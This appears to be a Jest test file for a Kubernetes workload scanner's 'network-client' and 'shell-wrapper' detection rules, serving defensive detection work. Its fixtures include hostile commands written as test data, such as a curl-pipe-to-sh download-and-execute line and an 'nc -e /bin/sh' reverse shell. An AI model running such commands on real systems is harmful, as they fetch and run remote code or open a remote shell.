import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import { networkClient } from './network-client.js';
import { shellWrapper } from './shell-wrapper.js';
import { C0, SPEC, argv, cronJob, sh } from '../../../test/support/workloads.js';

describe('network-client', () => {
  it.each<[string, Workload, string[]]>([
    ['curl health check', argv('curl', '-fsS', 'http://svc/healthz'), [`${C0}.command[0]`]],
    ['wget in a script', sh('wget -q -O /tmp/r http://svc/r && cat /tmp/r'), [`${C0}.command[2]`]],
    ['busybox wget', argv('busybox', 'wget', 'http://svc/'), [`${C0}.command[1]`]],
    ['/usr/bin/nc sending data', sh('echo hi | /usr/bin/nc log 514'), [`${C0}.command[2]`]],
    ['ssh', argv('ssh', 'backup@host', 'ls'), [`${C0}.command[0]`]],
    ['openssl s_client', sh('openssl s_client -connect h:443 </dev/null'), [`${C0}.command[2]`]],
    [
      'one finding per container',
      cronJob({
        initContainers: [{ name: 'i', image: 'alpine', command: ['sh', '-c', 'curl a; curl b; wget c'] }],
        containers: [{ name: 'c', image: 'alpine', command: ['curl', 'x'] }],
      }),
      [`${SPEC}.initContainers[0].command[2]`, `${C0}.command[0]`],
    ],
    // Decided: a port probe is not a network client.
    ['nc -z wait-for-db', sh('until nc -z db 5432; do sleep 2; done'), []],
    ['nc -zv -w 2', argv('nc', '-zv', '-w', '2', 'db', '5432'), []],
    // No double counting with the strong rules, per container.
    ['curl | sh is download-exec', sh('curl -s http://x/i | sh'), []],
    ['nc -e is reverse-shell', sh('curl -s http://x/ping; nc -e /bin/sh h 1'), []],
    [
      'the other container still counts',
      cronJob({
        containers: [
          { name: 'a', image: 'alpine', command: ['sh', '-c', 'curl x | sh'] },
          { name: 'b', image: 'alpine', command: ['curl', 'y'] },
        ],
      }),
      [`${SPEC}.containers[1].command[0]`],
    ],
    ['no client', argv('pg_dump', '-h', 'db'), []],
    ['apk add curl', sh('apk add --no-cache curl'), []],
  ])('%s', (_name, workload, expected) => {
    expect(networkClient.check(workload, undefined).map((evidence) => evidence.path)).toEqual(expected);
  });
});

describe('shell-wrapper', () => {
  it.each<[string, Workload, string[]]>([
    ['sh -c', sh('echo hi'), [`${C0}.command[2]`]],
    [
      'command + args',
      cronJob({
        containers: [{ name: 'c', image: 'alpine', command: ['/bin/bash', '-ec'], args: ['date'] }],
      }),
      [`${C0}.args[0]`],
    ],
    ['sh -o pipefail -c', argv('bash', '-o', 'pipefail', '-c', 'date | tee x'), [`${C0}.command[4]`]],
    [
      'args ["-c", …] under a shell entrypoint',
      cronJob({ containers: [{ name: 'c', image: 'busybox', args: ['-c', 'date'] }] }),
      [`${C0}.args[1]`],
    ],
    ['exec form', argv('pg_dump', '-h', 'db'), []],
    ['shell running a script file', argv('sh', '/scripts/run.sh'), []],
    [
      'probe shells are not the container command',
      cronJob({
        containers: [
          { name: 'c', image: 'x', livenessProbe: { exec: { command: ['sh', '-c', 'test -f /ok'] } } },
        ],
      }),
      [],
    ],
  ])('%s', (_name, workload, expected) => {
    expect(shellWrapper.check(workload, undefined).map((evidence) => evidence.path)).toEqual(expected);
  });

  it('is context only', () => {
    expect(shellWrapper.weight).toBe(0);
  });
});
